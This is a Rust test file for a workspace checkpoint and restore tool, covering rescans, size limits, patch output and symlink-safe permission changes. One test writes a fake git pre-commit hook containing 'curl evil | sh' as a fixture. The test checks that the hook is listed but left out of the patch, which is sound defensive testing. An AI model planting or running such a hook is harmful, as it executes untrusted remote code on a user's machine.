use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use super::changes::{Bounds, Kind};
use super::store::Store;
use super::*;

/// An `O_PATH` fd of the directory `p`, as a workspace root.
pub(super) fn root(p: &Path) -> OwnedFd {
    rustix::fs::open(
        p,
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .unwrap()
}

/// A store kept in the directory `dir`.
pub(super) fn store(dir: &Path, budget: u64) -> Store {
    let fd = rustix::fs::open(
        dir,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .unwrap();
    Store::new(fd, budget)
}

fn bounds() -> Bounds {
    Bounds {
        max_changes: 1000,
        max_patch_bytes: 1 << 20,
        max_file_bytes: 1 << 20,
        diff_time: std::time::Duration::from_secs(1),
    }
}

fn tree(dir: &Path) {
    fs::create_dir_all(dir.join("src/deep")).unwrap();
    fs::write(dir.join("src/a.py"), "one\ntwo\nthree\n").unwrap();
    fs::write(dir.join("src/deep/b.txt"), "bee").unwrap();
    fs::write(dir.join("run.sh"), "#!/bin/sh\necho hi\n").unwrap();
    fs::set_permissions(dir.join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    symlink("src/a.py", dir.join("link")).unwrap();
}

#[test]
fn a_restore_brings_back_contents_modes_links_and_removes_what_was_added() {
    let (ws, st) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    tree(ws.path());
    let r = root(ws.path());
    let mut store = store(st.path(), 1 << 30);
    let cp = scan(&r, None, ScanLimits::default(), Some(&mut store)).unwrap();
    store.retain(&cp);
    // The mess.
    fs::write(ws.path().join("src/a.py"), "changed\n").unwrap();
    fs::remove_dir_all(ws.path().join("src/deep")).unwrap();
    fs::set_permissions(ws.path().join("run.sh"), fs::Permissions::from_mode(0o600)).unwrap();
    fs::remove_file(ws.path().join("link")).unwrap();
    fs::create_dir(ws.path().join("link")).unwrap();
    fs::create_dir_all(ws.path().join("new/dir")).unwrap();
    for i in 0..100 {
        fs::write(ws.path().join(format!("new/dir/{i}")), "x").unwrap();
    }
    rustix::fs::mknodat(
        &r,
        "fifo",
        rustix::fs::FileType::Fifo,
        Mode::from_raw_mode(0o644),
        0,
    )
    .unwrap();
    let now = scan(&r, Some(&cp), ScanLimits::default(), None).unwrap();
    assert_ne!(now.digest(), cp.digest());
    let done = restore::restore(&r, &now, &cp, &store, None, None).unwrap();
    assert_eq!(done.written, 3, "{done:?}"); // a.py, deep/b.txt, link
    let after = scan(&r, None, ScanLimits::default(), None).unwrap();
    assert_eq!(after.digest(), cp.digest());
    assert_eq!(
        fs::read_to_string(ws.path().join("src/a.py")).unwrap(),
        "one\ntwo\nthree\n"
    );
    assert_eq!(
        fs::read_link(ws.path().join("link")).unwrap(),
        Path::new("src/a.py")
    );
    assert_eq!(
        fs::metadata(ws.path().join("run.sh"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o755
    );
    // Nothing of the staging is left behind.
    let names: Vec<_> = fs::read_dir(ws.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 3, "{names:?}");
}

#[test]
fn an_unchanged_file_is_not_read_again_but_a_changed_one_is() {
    let ws = tempfile::tempdir().unwrap();
    tree(ws.path());
    let r = root(ws.path());
    let first = scan(&r, None, ScanLimits::default(), None).unwrap();
    // Everything was just written: too fresh to be trusted from the cache.
    assert!(
        first
            .cached(b"src/a.py", &stamp(ws.path(), "src/a.py"))
            .is_none()
    );
    let mut old = first.clone();
    old.started.0 += 1;
    assert!(
        old.cached(b"src/a.py", &stamp(ws.path(), "src/a.py"))
            .is_some()
    );
    // Same size, same mtime forced back: the ctime still moves.
    let mtime = fs::metadata(ws.path().join("src/a.py"))
        .unwrap()
        .modified()
        .unwrap();
    fs::write(ws.path().join("src/a.py"), "ONE\ntwo\nthree\n").unwrap();
    fs::File::options()
        .write(true)
        .open(ws.path().join("src/a.py"))
        .unwrap()
        .set_modified(mtime)
        .unwrap();
    let again = scan(&r, Some(&old), ScanLimits::default(), None).unwrap();
    let (Some(Node::File { sha256: a, .. }), Some(Node::File { sha256: b, .. })) = (
        first.entries.get(&b"src/a.py"[..]),
        again.entries.get(&b"src/a.py"[..]),
    ) else {
        panic!("files expected")
    };
    assert_ne!(a, b);
}

fn stamp(dir: &Path, rel: &str) -> Stamp {
    let st = rustix::fs::stat(dir.join(rel)).unwrap();
    Stamp::of(&st)
}

#[test]
fn a_tree_too_deep_or_too_large_is_refused_by_name() {
    let ws = tempfile::tempdir().unwrap();
    let mut p = ws.path().to_path_buf();
    for _ in 0..10 {
        p.push("d");
    }
    fs::create_dir_all(&p).unwrap();
    let r = root(ws.path());
    let limits = ScanLimits {
        max_depth: 5,
        max_entries: 100,
        ..ScanLimits::default()
    };
    match scan(&r, None, limits, None) {
        Err(ScanError::TooDeep { path, limit: 5 }) => assert_eq!(path, "d/d/d/d/d/d"),
        other => panic!("{other:?}"),
    }
    let limits = ScanLimits {
        max_depth: 50,
        max_entries: 4,
        ..ScanLimits::default()
    };
    assert!(matches!(
        scan(&r, None, limits, None),
        Err(ScanError::TooMany { limit: 4 })
    ));
    let limits = ScanLimits {
        max_path_bytes: 9,
        ..ScanLimits::default()
    };
    assert!(matches!(
        scan(&r, None, limits, None),
        Err(ScanError::PathTooLong { limit: 9, .. })
    ));
}

#[test]
fn a_store_past_its_budget_refuses_and_keeps_nothing_of_the_failed_picture() {
    let (ws, st) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    fs::write(ws.path().join("big"), vec![b'x'; 5000]).unwrap();
    fs::write(ws.path().join("small"), "s").unwrap();
    let mut store = store(st.path(), 4000);
    let r = root(ws.path());
    assert!(matches!(
        scan(&r, None, ScanLimits::default(), Some(&mut store)),
        Err(ScanError::Store(store::Error::Full { budget: 4000, .. }))
    ));
    store.collect();
    assert_eq!(store.bytes(), 0);
    assert_eq!(fs::read_dir(st.path()).unwrap().count(), 0);
}

#[test]
fn changes_list_hashes_and_make_a_patch_git_applies() {
    let (ws, st) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    tree(ws.path());
    fs::write(ws.path().join("bin.dat"), b"\0\x01\x02").unwrap();
    let pristine = tempfile::tempdir().unwrap();
    copy_tree(ws.path(), pristine.path());
    let r = root(ws.path());
    let mut store = store(st.path(), 1 << 30);
    let base = scan(&r, None, ScanLimits::default(), Some(&mut store)).unwrap();
    store.retain(&base);
    fs::write(ws.path().join("src/a.py"), "one\n2\nthree").unwrap();
    fs::remove_file(ws.path().join("src/deep/b.txt")).unwrap();
    fs::write(ws.path().join("new file \"q\".txt"), "fresh\n").unwrap();
    fs::write(ws.path().join("é.txt"), "").unwrap();
    fs::set_permissions(ws.path().join("run.sh"), fs::Permissions::from_mode(0o644)).unwrap();
    fs::remove_file(ws.path().join("link")).unwrap();
    symlink("run.sh", ws.path().join("link")).unwrap();
    fs::write(ws.path().join("bin.dat"), b"\0\x09").unwrap();
    fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    fs::write(ws.path().join(".git/HEAD"), "x").unwrap();
    fs::write(ws.path().join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
    let now = scan(&r, None, ScanLimits::default(), None).unwrap();
    let out = changes::changes(&r, &base, &now, &store, bounds()).unwrap();
    let listed: Vec<(String, Kind)> = out
        .changes
        .iter()
        .map(|c| (show(&c.path), c.kind))
        .collect();
    assert_eq!(
        listed,
        vec![
            (".git/hooks/pre-commit".to_string(), Kind::Added),
            ("bin.dat".to_string(), Kind::Modified),
            ("link".to_string(), Kind::Modified),
            ("new file \"q\".txt".to_string(), Kind::Added),
            ("run.sh".to_string(), Kind::Modified),
            ("src/a.py".to_string(), Kind::Modified),
            ("src/deep/b.txt".to_string(), Kind::Deleted),
            ("é.txt".to_string(), Kind::Added),
        ]
    );
    // The binary file and the hook: listed, not patched.
    assert_eq!(out.omitted(), 2);
    let hook = &out.changes[0];
    assert_eq!(hook.omitted, Some(changes::Omitted::GitInternal));
    assert!(String::from_utf8_lossy(&out.patch).contains("# Not in this patch"));
    crate::provision::ensure(&[crate::provision::Need {
        program: "git",
        package: "git",
    }])
    .expect("git checks the patch");
    let patch = pristine.path().join("fix.patch");
    fs::write(&patch, &out.patch).unwrap();
    let git = std::process::Command::new("git")
        .args(["apply", "--verbose"])
        .arg(&patch)
        .current_dir(pristine.path())
        .output()
        .unwrap();
    assert!(
        git.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&git.stderr),
        String::from_utf8_lossy(&out.patch)
    );
    fs::remove_file(&patch).unwrap();
    // The binary file is the one thing the patch leaves out.
    fs::write(pristine.path().join("bin.dat"), b"\0\x09").unwrap();
    fs::create_dir_all(pristine.path().join(".git/hooks")).unwrap();
    fs::write(pristine.path().join(".git/HEAD"), "x").unwrap();
    fs::write(
        pristine.path().join(".git/hooks/pre-commit"),
        "curl evil | sh",
    )
    .unwrap();
    let applied = scan(&root(pristine.path()), None, ScanLimits::default(), None).unwrap();
    let strip_dirs = |m: &Manifest| -> Vec<(Vec<u8>, String)> {
        m.entries
            .iter()
            .filter(|(_, n)| !matches!(n, Node::Dir { .. }))
            .map(|(p, n)| (p.clone(), format!("{:?}", changes_view(n))))
            .collect()
    };
    assert_eq!(strip_dirs(&applied), strip_dirs(&now));
}

/// What git keeps of a node: contents, the executable bit, link targets.
fn changes_view(n: &Node) -> (Option<Hash>, bool, Option<Vec<u8>>) {
    match n {
        Node::File { sha256, mode, .. } => (Some(*sha256), mode & 0o100 != 0, None),
        Node::Symlink { target } => (None, false, Some(target.clone())),
        _ => (None, false, None),
    }
}

fn copy_tree(from: &Path, to: &Path) {
    let ok = std::process::Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", from.display()))
        .arg(to)
        .status()
        .unwrap();
    assert!(ok.success());
}

#[test]
fn a_mode_is_never_set_through_a_symlink() {
    let (ws, outside) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let secret = outside.path().join("secret");
    fs::write(&secret, "s").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    fs::create_dir(ws.path().join("d")).unwrap();
    symlink(&secret, ws.path().join("d/victim")).unwrap();
    symlink(outside.path(), ws.path().join("dirlink")).unwrap();
    let r = root(ws.path());
    // A restore, an upload or a patch setting the mode of what was a file
    // or a directory when it was planned, and is a symlink now.
    let stage = restore::Stage::new(&r, "test", None).unwrap();
    for path in [&b"d/victim"[..], b"dirlink", b"dirlink/secret"] {
        let steps = [restore::Step::Chmod(path, 0o777)];
        assert!(
            restore::land(&r, &stage, &steps, None).is_err(),
            "{}",
            show(path)
        );
    }
    stage.remove(&r);
    let mode = fs::metadata(&secret).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let mode = fs::metadata(outside.path()).unwrap().permissions().mode();
    assert_ne!(mode & 0o777, 0o777);
    // A real file's mode is set, and its old one returned.
    fs::write(ws.path().join("f"), "x").unwrap();
    fs::set_permissions(ws.path().join("f"), fs::Permissions::from_mode(0o644)).unwrap();
    let dir = open_dir(&r, b".").unwrap();
    assert_eq!(restore::chmod_nofollow(&dir, b"f", 0o755).unwrap(), 0o644);
    let mode = fs::metadata(ws.path().join("f"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
}

#[test]
fn a_picture_and_its_store_read_back_are_the_picture_and_restore_it() {
    let (ws, st) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    tree(ws.path());
    // A name that is not UTF-8, and a special file.
    fs::write(ws.path().join(OsStr::from_bytes(b"caf\xe9")), "x").unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        ws.path().join("fifo"),
        rustix::fs::FileType::Fifo,
        Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    let r = root(ws.path());
    let mut kept = store(st.path(), 1 << 30);
    let cp = scan(&r, None, ScanLimits::default(), Some(&mut kept)).unwrap();
    kept.retain(&cp);
    kept.seal();
    let index = kept.index();
    // After the index: a later picture's pack, and bytes appended to none.
    fs::write(ws.path().join("later.txt"), "later").unwrap();
    let later = scan(&r, None, ScanLimits::default(), Some(&mut kept)).unwrap();
    kept.retain(&later);
    drop(kept);
    let packs = || fs::read_dir(st.path()).unwrap().count();
    assert_eq!(packs(), 2);

    let back = Manifest::from_stored(
        &serde_json::from_slice(&serde_json::to_vec(&cp.stored()).unwrap()).unwrap(),
    )
    .unwrap();
    assert_eq!(back.digest(), cp.digest());
    assert_eq!(back.entries.len(), cp.entries.len());
    let dir = rustix::fs::open(
        st.path(),
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .unwrap();
    let mut again = Store::reopen(dir, 1 << 30, &index).unwrap();
    again.retain(&back);
    again.collect();
    assert_eq!(packs(), 1, "the pack the index did not know is removed");
    // The picture read back restores the tree.
    fs::write(ws.path().join("src/a.py"), "changed\n").unwrap();
    let now = scan(&r, None, ScanLimits::default(), None).unwrap();
    restore::restore(&r, &now, &back, &again, None, None).unwrap();
    assert_eq!(
        fs::read_to_string(ws.path().join("src/a.py")).unwrap(),
        "one\ntwo\nthree\n"
    );
    assert!(!ws.path().join("later.txt").exists());
    // A read-back hash is never trusted as a scan's cache.
    let rescanned = scan(&r, Some(&back), ScanLimits::default(), None).unwrap();
    assert_eq!(rescanned.digest(), cp.digest());
    // Damaged written forms are refused, not guessed at.
    let mut bad = cp.stored();
    bad.entries[0] = "f 420 3 nothex 616263 -".into();
    assert!(Manifest::from_stored(&bad).is_err());
    let mut short = index.clone();
    short.corrupt_for_tests();
    let dir = rustix::fs::open(
        st.path(),
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .unwrap();
    assert!(Store::reopen(dir, 1 << 30, &short).is_err());
}
